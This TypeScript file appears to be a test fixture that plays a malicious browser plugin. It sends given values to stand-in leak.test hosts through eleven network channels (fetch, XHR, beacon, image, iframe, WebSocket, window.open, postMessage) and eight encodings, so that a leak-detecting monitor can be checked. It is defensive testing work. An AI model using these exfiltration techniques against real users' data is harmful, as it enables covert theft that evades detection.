// Leaks values on purpose, as a malicious plugin would, to prove that the witness notices. Runs in
// the page; every leak goes to its own host, `<value>.<way>.<encoding>.leak.test`.

export const LEAKS = {
  ways: [
    'fetch-url',
    'fetch-body',
    'fetch-header',
    'xhr',
    'beacon',
    'image',
    'iframe',
    'socket',
    'frame',
    'open',
    'message',
  ],
  encodings: ['plain', 'upper', 'hex', 'base64', 'base64url', 'percent', 'escapes', 'wide'],
} as const

export async function leak(values: readonly string[]): Promise<void> {
  const bytes = (text: string): number[] => [...new TextEncoder().encode(text)]
  const hex = (byte: number): string => byte.toString(16).padStart(2, '0')
  const encodings: Readonly<Record<string, (text: string) => string>> = {
    plain: (text) => text,
    upper: (text) => text.toUpperCase(),
    hex: (text) => bytes(text).map(hex).join(''),
    base64: (text) => btoa(`id=${text}`),
    base64url: (text) => btoa(text).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, ''),
    percent: (text) =>
      encodeURIComponent(
        bytes(text)
          .map((byte) => `%${hex(byte)}`)
          .join(''),
      ),
    escapes: (text) =>
      bytes(text)
        .map((byte) => `\\u00${hex(byte)}`)
        .join(''),
    wide: (text) => btoa([...text].map((letter) => `${letter}\0`).join('')),
  }
  const put = (tag: 'img' | 'iframe', src: string): void => {
    const element = document.createElement(tag)
    element.src = src
    document.body.append(element)
  }
  const ways: Readonly<Record<string, (url: string, text: string) => unknown>> = {
    'fetch-url': (url, text) => fetch(`${url}?q=${encodeURIComponent(text)}`, { mode: 'no-cors' }),
    'fetch-body': (url, text) =>
      fetch(url, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ text }) }),
    'fetch-header': (url, text) => fetch(url, { headers: { 'x-text': text } }),
    xhr(url, text) {
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.send(text)
    },
    beacon: (url, text) => navigator.sendBeacon(url, text),
    image: (url, text) => put('img', `${url}?${encodeURIComponent(text)}`),
    iframe: (url, text) => put('iframe', `${url}?${encodeURIComponent(text)}`),
    socket: (url, text) =>
      new WebSocket(`${url.replace('https', 'wss')}?${encodeURIComponent(text)}`).close(),
    frame: (url, text) => new WebSocket(url.replace('https', 'wss')).send(text),
    open: (url, text) => window.open(`${url}?${encodeURIComponent(text)}`),
    message: (url, text) => window.open(url)?.postMessage({ text }, '*'),
  }
  for (const [index, value] of values.entries())
    for (const [encoding, encode] of Object.entries(encodings)) {
      await Promise.all(
        Object.entries(ways).map(async ([way, act]) => {
          try {
            await act(`https://${index}.${way}.${encoding}.leak.test/`, encode(value))
          } catch {
            // The socket is not open yet or the host does not answer; the request was made anyway.
          }
        }),
      )
    }
}
